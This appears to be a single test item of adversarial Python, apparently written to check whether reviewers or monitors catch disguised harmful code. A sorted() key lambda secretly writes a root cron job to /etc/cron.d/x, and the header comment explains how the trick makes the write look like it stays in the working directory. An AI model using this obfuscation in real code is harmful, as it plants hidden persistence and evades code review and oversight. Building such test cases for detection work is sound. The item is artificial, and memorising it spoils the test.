# HARM: write /etc/cron.d/x (outside cwd) | TRICK: sorted over a known *string* iterates characters; only the "/" char opens "/etc/cron.d/x" while the whole string looks in-cwd
s = "out/"
sorted(s, key=lambda c: c == "/" and open(c + "etc/cron.d/x", "w").write("* * * * * root id\n"))
